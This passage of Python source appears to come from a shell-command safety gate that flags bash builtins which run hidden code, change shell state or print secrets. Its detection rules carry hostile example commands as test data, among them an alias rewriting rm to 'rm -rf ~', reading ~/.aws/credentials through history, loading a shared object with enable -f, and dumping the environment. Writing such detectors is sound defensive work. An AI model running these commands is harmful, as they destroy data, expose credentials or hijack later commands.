        if SUBSCRIPT_CODE.search(arg) or (cmd.name == "let" and ("$(" in arg or "`" in arg)):
            cmd.does("run-code", "builtin.subscript", f"{cmd.name} evaluates a subscript that runs a command")
        if "=" in arg and cmd.name in DECLARERS:
            name, _, value = arg.partition("=")
            cmd.sets_variable(name.rstrip("+"), None if UNKNOWN in value else value, arg,
                              split=cmd.splitter_saw(arg))
    if cmd.name in DECLARERS + ("set",) and not [a for a in args if not a.startswith("-")]:
        if cmd.name != "set" or not args:
            cmd.fired.add("builtin.prints-environment")
            cmd.facts.secret_source = "prints the environment"
    if cmd.name == "export" and "-f" in args:
        cmd.does("shell-state", "export.function", "exports a function to every child bash")
    if cmd.name == "unset" or cmd.name == "export" and "-n" in args:
        for name in args:
            if name.startswith("WISP_"):
                cmd.does("gate", "builtin.unset-wisp", f"removes {name}, which changes the gate itself")


BUILTINS = tuple(Program(name, doc=f"the shell builtin {name}: words the shell evaluates", hook=builtin_words)
                 for name in ("declare", "typeset", "local", "export", "readonly", "read", "test", "[", "[[", "let",
                              "unset", "printf", "set"))
FC = Program("fc", doc="lists, edits and re-runs commands of the shell's history",
             grammar=Grammar(values="e"),
             rows=(Row("fc.lists", "nothing", "fc -l lists the shell's history", When(flag=("l",)), stop=True,
                       examples=("fc -l",)),
                   Row("fc.reruns", "run-code", "fc runs commands from the shell's history (text the gate never saw "
                                                "on this line)", sets=("runtime_code",),
                       examples=("fc -s", "fc -e - 1", "fc -e vi 3"))))
MAPFILE = Program("mapfile", aliases=("readarray",), doc="reads lines into an array; -C runs a callback",
                  grammar=Grammar(values="dnOsuCc"),
                  rows=(Row("mapfile.callback", "run-code", "{cmd} -C runs a callback string as code",
                            When(value=("C",)), examples=("mapfile -C 'id' a",)),))
HASH = Program("hash", doc="remembers where commands are; -p binds a name to any program",
               grammar=Grammar(values="pt"),
               rows=(Row("hash.binds", "shell-state", "hash -p binds a command name to another program",
                         When(value=("p",)), examples=("hash -p /tmp/x ls",)),))
ENABLE = Program("enable", doc="turns shell builtins on and off; -f loads them from a shared object",
                 grammar=Grammar(values="f"),
                 rows=(Row("enable.loads", "run-code", "enable -f loads a shared object into the shell",
                           When(value=("f",)), examples=("enable -f /tmp/x.so x",)),
                       Row("enable.disables", "shell-state", "enable -n disables a builtin (later commands of that "
                                                             "name run a program instead)",
                           When(flag=("n",)), examples=("enable -n echo",))),
                 on=(On("run", ("option", "f"), id="enable.loads-file", says="enable loads",
                        examples=("enable -f ./x.so x",)),))


@emits({"trap.runtime": ['trap "$X" EXIT', 'trap "rm -f $F" EXIT']})
def trap_code(cmd, o: Options) -> None:
    """trap CODE SIGNAL…: literal code is a part of its own (the splitter's); code known at run time is not."""
    args = o.args
    if args and not args[0].startswith("-") and UNKNOWN in args[0]:
        cmd.facts.runtime_code = True
        cmd.does("run-code", "trap.runtime", "trap runs text known only at run time")


TRAP = Program("trap", doc="runs code when a signal comes (literal code is a part of its own)", hook=trap_code)


@emits({"alias.defines": ["alias ll='ls -l'", "alias rm='rm -rf ~'"]})
def alias_words(cmd, o: Options) -> None:
    """NAME=VALUE defines an alias (its text is split as code by the splitter); `alias NAME` only prints."""
    if any("=" in a for a in o.args if not a.startswith("-")):
        cmd.does("shell-state", "alias.defines", "defines an alias: later commands of that name run something else")


ALIAS = Program("alias", doc="defines aliases: later commands of that name run something else", hook=alias_words)


@emits({"env.dump": ["env"]})
def env_dump(cmd, o: Options | None = None) -> None:
    """Bare `env` prints the environment (API keys, tokens)."""
    cmd.facts.secret_source = "prints the environment (API keys, tokens)"
    cmd.does("inspect", "env.dump", "prints the environment")


ENV = Program("env", doc="with no command, prints the environment", hook=env_dump)
PRINTENV = Program("printenv", doc="prints environment variables",
                   rows=(Row("printenv.all", "inspect", "prints the environment", When(operands=False),
                             sets=("secret",), stop=True, examples=("printenv",)),
                         Row("printenv.some", "nothing", "prints environment variables", sets=("secret",),
                             examples=("printenv HOME",))))


@emits({"history.histfile": ["HISTFILE=~/.bashrc history -w"]})
def histfile(cmd, o: Options) -> None:
    """history -w / -a with no file write $HISTFILE (when this line or the environment sets it)."""
    if o.operands or not o.has("w", "a"):
        return
    assigned = next((a.value for a in cmd.part.assignments if a.name == "HISTFILE"), None) if cmd.part else None
    target = assigned or cmd.subst.get("HISTFILE") or cmd.ctx.env.get("HISTFILE")
    if target:
        cmd.fired.add("history.histfile")
        cmd.write(target, "history writes")


HISTORY = Program(
    "history", doc="the shell's history list; -w/-a FILE write it to FILE, -r/-n FILE read FILE into it",
    grammar=Grammar(values="d"),
    rows=(Row("history.list", "nothing", "changes this shell's history list (a non-interactive shell saves none)",
              When(flag=("c", "d", "s", "p")), examples=("history -c", "history -s x")),),
    on=(On("write", FIRST, when=When(flag=("w", "a")), id="history.writes", says="history writes",
           examples=("history -w ~/.wisp/config.json", "history -a ~/.bashrc")),
        On("read", FIRST, when=When(flag=("r", "n")), id="history.reads", examples=("history -r ~/.aws/credentials",))),
    hook=histfile,
    examples={"history -w ~/.wisp/config.json": "dangerous", "history -w /tmp/h": "low", "history 10": "safe"},
)

PROGRAMS = programs(
    *SHELL_PROGRAMS, PYTHON, NODE, PERL, RUBY, PHP, LUA, *GENERIC, CLISP, PWSH, DENO, EVAL, SOURCE, *EDITOR_PROGRAMS, ED,
    LESS, MORE, MAN, *DEBUGGERS, PDB, OPENERS, LOADERS, IEX, IWR, *BUILTINS, MAPFILE, HASH, ENABLE, TRAP, ALIAS,
    ENV, PRINTENV, HISTORY, FC,
)
